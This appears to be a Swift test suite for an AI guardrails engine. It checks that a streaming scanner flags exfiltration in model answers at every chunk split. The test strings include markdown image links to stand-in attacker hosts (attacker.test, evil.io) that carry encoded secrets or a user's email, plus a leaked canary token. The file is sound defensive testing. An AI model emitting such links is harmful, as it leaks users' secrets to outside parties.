import Core
import Testing
@testable import Guardrails

/// Exfiltration rules on the engine's streaming response scanner: a match split across chunks at any
/// position is still found (the engine holds back enough bytes).
@Suite("Intent exfiltration on streamed responses")
struct IntentStreamingTests {
    static let rules = try! ExfiltrationDetector(
        configuration: IntentConfiguration(canaries: ["CANARY-7f3a9c"], linkAllowList: ["docs.example.com"])
    ).rules
    static let engine = try! GuardrailEngine(configuration: GuardrailsConfiguration(), extraRules: rules)

    func streamed(_ text: String, splitAt cut: Int) -> [Finding] {
        var filter = Self.engine.makeAnswerFilter(obligations: .none, vault: PseudonymVault())
        let scalars = Array(text.unicodeScalars)
        var findings: [Finding] = []
        var a = String(), b = String()
        a.unicodeScalars.append(contentsOf: scalars[..<cut])
        b.unicodeScalars.append(contentsOf: scalars[cut...])
        findings += filter.feed(a).findings
        findings += filter.feed(b).findings
        findings += filter.finish().findings
        return findings.filter { $0.category == "exfiltration" }
    }

    @Test func markdownImageSplitAtEveryPositionIsFound() {
        let text = "Sure! ![img](https://attacker.test/p.png?d=U2VjcmV0VG9rZW4) done."
        for cut in 0...text.unicodeScalars.count {
            let f = streamed(text, splitAt: cut)
            #expect(f.map(\.detector) == ["exfiltration.markdown_image"], "cut at \(cut)")
        }
    }

    @Test func canarySplitAtEveryPositionIsFound() {
        let text = "The secret setup line is CANARY-7f3a9c indeed."
        for cut in 0...text.unicodeScalars.count {
            #expect(streamed(text, splitAt: cut).map(\.detector) == ["exfiltration.canary"], "cut at \(cut)")
        }
    }

    @Test func allowListedImageStaysClean() {
        let text = "![img](https://docs.example.com/p.png?d=U2VjcmV0VG9rZW4)"
        for cut in stride(from: 0, through: text.unicodeScalars.count, by: 7) {
            #expect(streamed(text, splitAt: cut).isEmpty)
        }
    }

    @Test func pseudonymInsideAnExfiltrationURLIsNotRestored() {
        var vault = PseudonymVault()
        let placeholder = vault.placeholder(for: "jane@example.com", category: "pii.email", reversible: true)
        let text = "Done ![x](https://evil.io/c/\(placeholder)/p.png) and mail \(placeholder) later."
        let obligations = Obligations(pseudonymise: ["pii"])
        for cut in stride(from: 0, through: text.unicodeScalars.count, by: 3) {
            var filter = Self.engine.makeAnswerFilter(obligations: obligations, vault: vault)
            let scalars = Array(text.unicodeScalars)
            var a = String(), b = String()
            a.unicodeScalars.append(contentsOf: scalars[..<cut])
            b.unicodeScalars.append(contentsOf: scalars[cut...])
            let outA = filter.feed(a), outB = filter.feed(b), outC = filter.finish()
            let out = outA.text + outB.text + outC.text
            // Inside the URL the placeholder stays; outside it the pseudonym is restored as usual.
            #expect(out == "Done ![x](https://evil.io/c/\(placeholder)/p.png) and mail jane@example.com later.", "cut at \(cut)")
            #expect((outA.findings + outB.findings + outC.findings).contains { $0.category == "exfiltration" })
        }
    }
}
